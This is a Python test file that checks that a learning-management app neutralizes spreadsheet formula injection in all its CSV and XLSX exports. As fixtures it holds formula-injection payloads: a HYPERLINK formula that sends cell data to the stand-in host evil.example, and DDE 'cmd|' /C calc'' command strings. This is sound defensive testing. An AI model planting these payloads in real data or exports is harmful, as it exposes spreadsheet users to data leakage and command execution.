"""Formula injection: text from users (names, places, unit and title names, question text and
keys) that starts as a spreadsheet formula (=, +, -, @, tab, CR) is never a formula in a CSV or
XLSX export; genuine numbers, negative ones too, stay numbers. Every spreadsheet route of the
app is listed here, so that a new one must be added (and checked) or the listing test fails;
every module that writes a workbook or a CSV must go through the neutralizing writers."""
import csv
import io
import re
from pathlib import Path

from certificate_support import ALL_RIGHT, FAILING, PASSING, issue_all, released_session
from exam_support import add_question, single_choice
from openpyxl import load_workbook
from ranking_support import FULL, report
from sqlalchemy import select

from lms.auth.services import find_user
from lms.catalogue.models import Title
from lms.exams.models import ExamCandidate
from lms.extensions import db
from lms.localtime import local_today
from lms.org.models import Unit
from lms.questionbank import services as questionbank
from lms.tabular import FORMULA_PREFIXES, write_csv, write_xlsx

YEAR = str(local_today().year)
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "place": "+cmd|' /C calc'!A0",
    "second": "@SUM(1+1)*cmd|' /C calc'!A0",
    "third": "\t=1+1",
    "unit": "-2+3+cmd|' /C calc'!A0",
    "title": "\r=1+1",
    "phone": "-1+1",
    "question": '=HYPERLINK("http://evil.example","Câu hỏi")',
}
SPREADSHEET_ROUTE = re.compile(r"<fmt>|csv|xlsx")
# Every route that answers a spreadsheet, and the address of one of its files in the world below.
EXPORTS = {
    "org.staff_export": lambda w: ["/org/staff/export.csv", "/org/staff/export.xlsx"],
    "org.import_template": lambda w: ["/org/import/staff/template.xlsx", "/org/import/units/template.xlsx"],
    "certificates.register_export": lambda w: ["/certificates/register.csv", "/certificates/register.xlsx"],
    "exam_admin.results_export": lambda w: [f"/exams/manage/sessions/{w['session']}/results.{fmt}" for fmt in ("csv", "xlsx")],
    "exam_admin.analysis_export": lambda w: [f"/exams/manage/sessions/{w['session']}/analysis.{fmt}" for fmt in ("csv", "xlsx")],
    "questionbank.export": lambda w: [f"/questionbank/banks/{w['bank']}/export/xlsx"],
    "questionbank.xlsx_template": lambda w: ["/questionbank/xlsx-template"],
    "rankings.export": lambda w: [f"/rankings/export.xlsx?period={YEAR}&bloc=KHOI-PHUONG"],
    "rankings.export_breakdown": lambda w: [f"/rankings/unit/{w['unit']}/export.xlsx?period={YEAR}"],
    "reports.export": lambda w: [f"/reports/{report}.{fmt}?unit=LB" for report in ("units", "titles", "modules", "periods", "gaps")
                                 for fmt in ("csv", "xlsx")],
    "indicators.template": lambda w: [f"/indicators/template.xlsx?period={YEAR}"],
}
# Spreadsheet writers that hold no user text: the practice files of the lessons are built from
# constants; the question bank's XLSX keeps a question's text exact (export → import), as text cells.
FIXED_CONTENT_WRITERS = {"lms/courses/practice_files/iu03.py", "lms/courses/practice_files/iu04.py", "lms/courses/practice_files/iu05.py"}
TEXT_CELL_WRITERS = {"lms/questionbank/formats/xlsx.py"}


def test_every_spreadsheet_route_is_checked_here(app):
    routes = {rule.endpoint for rule in app.url_map.iter_rules() if SPREADSHEET_ROUTE.search(rule.rule)}
    assert routes == set(EXPORTS), "a spreadsheet route to add to EXPORTS (and to neutralize)"


def test_every_module_writing_a_spreadsheet_goes_through_the_neutralizing_writers():
    root = Path(__file__).resolve().parents[2]
    unguarded = []
    for path in sorted((root / "lms").rglob("*.py")):
        name, source = path.relative_to(root).as_posix(), path.read_text(encoding="utf-8")
        writes = re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(", source)
        if not writes or name in FIXED_CONTENT_WRITERS:
            continue
        guarded = "neutralize_formula" in source or (name in TEXT_CELL_WRITERS and 'data_type = "s"' in source)
        if not guarded:
            unguarded.append(name)
    assert unguarded == []


def _hostile_world():
    """The demo with formula text in a person's name, place and phone, a unit's name, a title's
    name, two more names and a question; they sat an exam, were issued certificates, and their
    units reported indicators."""
    bo_de = db.session.execute(select(Unit).where(Unit.code == "LB-BODE")).scalar_one()
    bo_de.name = HOSTILE["unit"]
    learner = find_user("learner").staff
    learner.full_name, learner.birth_place, learner.phone = HOSTILE["name"], HOSTILE["place"], HOSTILE["phone"]
    learner.title = db.session.execute(select(Title).order_by(Title.id)).scalars().first()
    learner.title.name = HOSTILE["title"]
    session, candidates, _attempts = released_session([ALL_RIGHT, PASSING, FAILING])
    others = [db.session.get(ExamCandidate, candidate_id).staff for candidate_id in candidates[1:]]
    others[0].full_name, others[1].full_name = HOSTILE["second"], HOSTILE["third"]
    issue_all(session)
    report("LB-BODE", YEAR, FULL)
    report("LB-GIATHUY", YEAR, {**FULL, "online_procedures_pct": 80})
    bank = questionbank.create_bank("Ngân hàng công thức", find_user("trainer"))
    data = single_choice("-2-3", "IU04")
    data.update(text=HOSTILE["question"], explanation=HOSTILE["place"])
    data["choices"][0]["text"] = HOSTILE["second"]
    add_question(bank, data)
    db.session.commit()
    return {"session": session.id, "bank": bank.id, "unit": bo_de.id}


def _cells(response):
    """(text or number, whether it is a formula) of every cell of a CSV or XLSX answer."""
    if response.data[:2] == b"PK":
        workbook = load_workbook(io.BytesIO(response.data))
        return [(cell.value, cell.data_type == "f") for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
                if cell.value is not None]
    text = response.data.decode("utf-8-sig")
    return [(value, False) for row in csv.reader(io.StringIO(text)) for value in row]


PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def _runs_as_formula(value, formula, exact_text):
    """A formula cell, or text a spreadsheet would run; a CSV number (a discrimination index
    of -1.0, say) is only a number."""
    if formula:
        return True
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not exact_text and not PLAIN_NUMBER.fullmatch(value)


def test_formula_text_from_users_is_never_a_formula_in_any_export(client, auth, demo):
    world = _hostile_world()
    auth.login("admin")
    problems, carried = [], set()
    for endpoint, addresses in EXPORTS.items():
        for address in addresses(world):
            response = client.get(address)
            assert response.status_code == 200, (address, response.status_code)
            cells = _cells(response)
            exact = endpoint == "questionbank.export"  # text cells, exact for the round trip
            problems += [(address, value) for value, formula in cells if _runs_as_formula(value, formula, exact)]
            carried |= {key for key, hostile in HOSTILE.items() for value, _formula in cells
                        if isinstance(value, str) and hostile.strip() in value}
    assert problems == []
    assert carried == set(HOSTILE), "every hostile text reached some export (the check saw it)"


def test_the_neutralized_text_keeps_what_the_user_wrote_after_the_apostrophe(client, auth, demo):
    world = _hostile_world()
    auth.login("admin")
    rows = list(csv.reader(io.StringIO(client.get("/org/staff/export.csv").data.decode("utf-8-sig"))))
    learner = next(row for row in rows if HOSTILE["name"] in row[0])
    assert learner[0] == "'" + HOSTILE["name"] and learner[2] == "'" + HOSTILE["place"]
    bank_export = load_workbook(io.BytesIO(client.get(f"/questionbank/banks/{world['bank']}/export/xlsx").data)).active
    texts = {cell.value: cell.data_type for row in bank_export.iter_rows(min_row=2) for cell in row if cell.value}
    assert texts[HOSTILE["question"]] == "s"  # the exact text, as text: Excel shows it, runs nothing


def test_genuine_numbers_negative_ones_too_stay_numbers():
    headers, rows = ["Tên", "Điểm", "Chênh lệch"], [["-2+3", -1.5, -3], ["Nguyễn Văn A", 7.25, 0]]
    sheet = load_workbook(io.BytesIO(write_xlsx(headers, rows))).active
    assert [cell.value for cell in sheet[2]] == ["'-2+3", -1.5, -3] and [cell.data_type for cell in sheet[2]] == ["s", "n", "n"]
    text = write_csv(headers, rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-2+3", "-1.5", "-3"]


def test_scores_in_the_results_export_are_numbers(client, auth, demo):
    world = _hostile_world()
    auth.login("admin")
    sheet = load_workbook(io.BytesIO(client.get(f"/exams/manage/sessions/{world['session']}/results.xlsx").data)).active
    header = [cell.value for cell in sheet[1]]
    scores = [row[header.index(next(h for h in header if "điểm" in h))] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert scores and all(isinstance(score, (int, float)) for score in scores)
